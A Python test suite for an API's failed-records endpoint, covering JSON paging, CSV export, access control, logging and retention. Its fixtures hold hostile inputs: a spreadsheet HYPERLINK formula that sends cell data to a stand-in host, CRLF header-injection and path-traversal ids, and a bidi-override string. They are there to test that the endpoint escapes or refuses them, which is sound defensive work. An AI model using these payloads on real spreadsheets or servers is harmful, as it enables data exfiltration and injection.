"""Failed records of a watch: all of them, in pages or as CSV, for those who may see the watch."""

import csv
from io import StringIO
from typing import Any

import httpx
import pytest
from structlog.testing import capture_logs

from bridge.domain.times import DAY, HOUR, MINUTE
from tests.support.unfinished_reading import read_unfinished
from tests.support.world import ADMIN_KEY, CLIENT_KEY, OTHER_KEY, World, bearer

pytestmark = pytest.mark.anyio

HOSTILE = (
    {"email": '=HYPERLINK("https://x.example/?"&A1)'},
    {"email": '"jane, doe"\r\n@example.com'},
    {"email": "\u202emoc.elpmaxe@enaj"},
    {"personId": "+p,1"},
    {"personId": "p2", "email": "مريم@example.com"},
)
HEADER = ["email", "personId", "importId"]


def records(count: int) -> list[dict[str, str]]:
    """Return failed records, the hostile ones first."""
    plain = (
        {"email": f"p{number}@example.com"} if number % 2 else {"personId": f"p{number}"} for number in range(count)
    )
    return [*HOSTILE, *plain][:count]


async def ended(world: World, count: int, import_id: str = "imp", *, key: str = CLIENT_KEY) -> str:
    """Return the path of the failed records of a watch whose import has ended with this number of them."""
    await world.sandbox.set_import(import_id, ("COMPLETED", 0), failedRecords=records(count))
    watch = await world.watch(import_id, key=key)
    await world.poll()
    return f"/v1/watches/{watch['id']}/failed-records"


async def read_all(world: World, path: str, limit: int = 1000) -> list[dict[str, str]]:
    """Read all pages."""
    found: list[dict[str, str]] = []
    query: dict[str, Any] = {"limit": limit}
    while True:
        answer = await world.get(path, **query)
        assert answer.status_code == 200, answer.text
        page = answer.json()
        found += page["data"]
        if page["nextCursor"] is None:
            return found
        assert len(page["data"]) == limit
        query["cursor"] = page["nextCursor"]


def rows(answer: httpx.Response) -> list[list[str]]:
    assert answer.status_code == 200, answer.text
    assert answer.headers["content-type"] == "text/csv; charset=utf-8; header=present"
    return list(csv.reader(StringIO(answer.text, newline="")))


def as_rows(found: list[dict[str, str]], import_id: str = "imp") -> list[list[str]]:
    return [HEADER, *([each.get("email", ""), each.get("personId", ""), import_id] for each in found)]


def refusal(answer: httpx.Response) -> tuple[int, str]:
    return answer.status_code, answer.json()["code"]


@pytest.mark.parametrize("count", [0, 1, 100, 101, 1_500])
async def test_all_failed_records_are_returned_in_pages_and_as_csv(world: World, count: int) -> None:
    path = await ended(world, count)

    page = (await world.get(path, limit=1)).json()
    assert (page["importId"], page["status"], page["failedRecordCount"]) == ("imp", "COMPLETED", count)
    assert await read_all(world, path) == records(count)
    assert rows(await world.get(f"{path}.csv")) == as_rows(records(count))


async def test_ten_thousand_records_are_kept_without_asking_rally_again(world: World) -> None:
    path = await ended(world, 10_000)

    assert rows(await world.get(f"{path}.csv")) == as_rows(records(10_000))
    assert await read_all(world, path) == records(10_000)
    assert len(await world.sandbox.requests()) == 1


async def test_the_watch_shows_the_first_hundred(world: World) -> None:
    path = await ended(world, 101)

    watch = (await world.get(path.removesuffix("/failed-records"))).json()

    assert watch["import"].keys() == {
        *("importId", "type", "status", "personCount", "failedRecordCount", "failedRecords", "updatedAt")
    }
    assert (watch["import"]["failedRecordCount"], watch["import"]["failedRecords"]) == (101, records(100))


async def test_pages_end_exactly_at_the_last_record(world: World) -> None:
    path = await ended(world, 150)

    assert await read_all(world, path, limit=50) == records(150)
    assert await read_all(world, path, limit=149) == records(150)
    assert len((await world.get(path)).json()["data"]) == 100


async def test_accept_chooses_between_json_and_csv(world: World) -> None:
    path = await ended(world, 3)

    async def accepting(accept: str, ending: str = "") -> httpx.Response:
        return await world.api.get(path + ending, headers={**bearer(CLIENT_KEY), "Accept": accept})

    assert rows(await accepting("text/csv")) == as_rows(records(3))
    assert (await accepting("application/json, text/*;q=0.5")).json()["data"] == records(3)
    assert refusal(await accepting("application/vnd.ms-excel")) == (406, "not_acceptable")
    assert rows(await accepting("application/vnd.ms-excel", ".csv")) == as_rows(records(3))


async def test_a_csv_for_spreadsheets_has_no_formulas(world: World) -> None:
    path = await ended(world, 5)

    found = [row[:2] for row in rows(await world.get(f"{path}.csv", safe="true"))[1:]]
    assert found[0] == ["'" + HOSTILE[0]["email"], ""]
    assert found[3] == ["", "'+p,1"]
    assert found[1:3] == [[HOSTILE[1]["email"], ""], [HOSTILE[2]["email"], ""]]
    assert rows(await world.get(f"{path}.csv", safe="false")) == as_rows(records(5))


async def test_a_csv_is_a_file_that_no_browser_renders(world: World) -> None:
    path = await ended(world, 1)
    answer = await world.get(f"{path}.csv")

    watch_id = path.split("/")[3]
    assert answer.headers["content-disposition"] == f'attachment; filename="failed-records-{watch_id}.csv"'
    assert answer.headers["x-content-type-options"] == "nosniff"
    assert answer.headers["cache-control"] == "no-store"


@pytest.mark.parametrize("ending", ["", ".csv"])
async def test_head_has_the_headers_and_is_no_access(world: World, ending: str) -> None:
    path = await ended(world, 200) + ending

    with capture_logs() as logs:
        answer = await world.api.head(path, headers=bearer(CLIENT_KEY))

    assert (answer.status_code, logs) == (200, [])
    assert answer.headers.get("content-length") != "0"
    assert answer.headers["content-type"] == (await world.get(path)).headers["content-type"]
    assert (await world.api.head(path)).status_code == 401


async def test_only_those_who_may_see_the_watch_may_see_its_failed_records(world: World) -> None:
    path = await ended(world, 101)

    for ending in ("", ".csv"):
        assert refusal(await world.get(path + ending, key=OTHER_KEY)) == (404, "watch_not_found")
        assert (await world.get(path + ending, key=ADMIN_KEY)).status_code == 200
        assert (await world.api.get(path + ending)).status_code == 401
    for unknown in ("wat_unknown", "dlv_1", "%2e%2e", "wat_1%0d%0aX-Y:z"):
        assert refusal(await world.get(f"/v1/watches/{unknown}/failed-records"))[0] == 404


async def test_every_access_is_logged_without_addresses(world: World) -> None:
    path = await ended(world, 101)

    with capture_logs() as logs:
        await world.get(path)
        await world.get(f"{path}.csv", key=ADMIN_KEY)
        await world.get(path, key=OTHER_KEY)

    facts = {"event": "failed_records.shown", "log_level": "info", "watch_id": path.split("/")[3]}
    facts |= {"workspace": "default", "import_id": "imp"}
    accesses = [each for each in logs if each["event"] != "request.answered"]
    assert accesses == [{**facts, "client": "crm", "form": "json"}, {**facts, "client": "ops", "form": "csv"}]
    assert "@" not in str(logs)


@pytest.mark.parametrize(
    ("ending", "query", "pointer"),
    [
        ("", {"limit": 0}, "?limit"),
        ("", {"limit": 1001}, "?limit"),
        ("", {"cursor": "wat_01"}, "?cursor"),
        ("", {"cursor": "0123456789abcdef_0"}, "?cursor"),
        ("", {"safe": "yes"}, "?safe"),
        (".csv", {"safe": "1"}, "?safe"),
        (".csv", {"limit": 10}, "?limit"),
        (".csv", {"safe": ["true", "true"]}, "?safe"),
    ],
)
async def test_an_invalid_query_is_refused(world: World, ending: str, query: dict[str, Any], pointer: str) -> None:
    answer = await world.get(await ended(world, 1) + ending, **query)

    assert refusal(answer) == (422, "invalid_query")
    assert [error["pointer"] for error in answer.json()["errors"]] == [pointer]


async def test_a_cursor_of_other_records_is_refused(world: World) -> None:
    first = await world.get(await ended(world, 150))
    other = await ended(world, 151, "other")

    answer = await world.get(other, cursor=first.json()["nextCursor"])

    assert refusal(answer) == (409, "failed_records_changed")


async def test_a_page_behind_the_end_is_empty(world: World) -> None:
    path = await ended(world, 150)
    cursor = (await world.get(path)).json()["nextCursor"].split("_")[0]

    assert (await world.get(path, cursor=f"{cursor}_9999999")).json()["data"] == []


async def test_the_records_of_an_import_that_was_never_read_are_not_known(world: World) -> None:
    watch = await world.watch()
    path = f"/v1/watches/{watch['id']}/failed-records"
    assert refusal(await world.get(path)) == (409, "import_not_read")

    await world.post(f"/v1/watches/{watch['id']}/cancel")
    assert refusal(await world.get(f"{path}.csv")) == (409, "import_not_read")


async def test_an_open_watch_and_a_cancelled_one_show_the_records_of_their_last_reading(world: World) -> None:
    watch, other = await world.watch(), await world.watch()
    path = f"/v1/watches/{watch['id']}/failed-records"
    await read_unfinished(world, records(101))
    assert ((await world.get(path)).json()["status"], await read_all(world, path)) == ("UPLOADING", records(101))

    await read_unfinished(world, records(150))
    await world.post(f"/v1/watches/{watch['id']}/cancel")
    await read_unfinished(world, records(200))
    world.pass_time(HOUR)
    await world.sweep()
    assert await read_all(world, path) == records(150)
    assert await read_all(world, f"/v1/watches/{other['id']}/failed-records") == records(200)


async def test_each_watch_shows_the_records_of_its_own_final_reading(world: World) -> None:
    first = await ended(world, 200)
    joined = await world.watch()
    await world.sweep()
    world.pass_time(HOUR)
    later = await ended(world, 300)

    assert await read_all(world, first) == records(200)
    assert await read_all(world, f"/v1/watches/{joined['id']}/failed-records") == records(200)
    assert await read_all(world, later) == records(300)


async def test_the_records_are_deleted_with_the_last_watch_that_needs_them(world: World) -> None:
    path = await ended(world, 200)
    world.pass_time(15 * DAY)
    await world.sweep()
    later = await ended(world, 200)
    world.pass_time(16 * DAY)
    await world.sweep()
    assert (await world.get(path)).status_code == 404
    assert await read_all(world, later) == records(200)

    world.pass_time(15 * DAY)
    await world.sweep()
    await world.sweep()
    assert (await world.get(later)).status_code == 404
    assert await world.resources.store.call("KEYS", "rb:record*") == []


async def test_a_redelivery_keeps_the_records_of_its_watch(world: World) -> None:
    await world.sandbox.set_import("imp", ("COMPLETED", 0), failedRecords=records(200))
    callback = {"type": "callback", "url": world.sandbox.callback_url()}
    watch = await world.watch(notify=[callback])
    await world.poll()
    await world.deliver()
    path = f"/v1/watches/{watch['id']}/failed-records"
    (delivery,) = (await world.reload(watch))["deliveries"]
    assert (await world.post(f"/v1/deliveries/{delivery['id']}/redeliver")).status_code == 202
    await world.deliver()

    first, again = await world.sandbox.messages()
    assert first["body"] == again["body"]
    assert await read_all(world, path) == records(200)


async def test_records_that_no_key_decrypts_are_a_clear_error(world: World) -> None:
    path = await ended(world, 200)
    (key,) = await world.resources.store.call("KEYS", "rb:record_set:*")
    await world.resources.store.call("SET", key, "gAAAAAB" + "x" * 100)

    for ending in ("", ".csv"):
        assert refusal(await world.get(path + ending)) == (500, "decryption_failed")


async def test_a_minute_has_a_limit_of_calls(world: World) -> None:
    await world.begin_minute()
    path = await ended(world, 1)
    limit = world.resources.settings.client_rate_limit
    await world.resources.rate_limiter.acquire("crm", limit - 2)

    assert (await world.get(path)).status_code == 200
    assert refusal(await world.get(f"{path}.csv")) == (429, "rate_limited")
    world.pass_time(MINUTE)
    assert (await world.get(f"{path}.csv")).status_code == 200
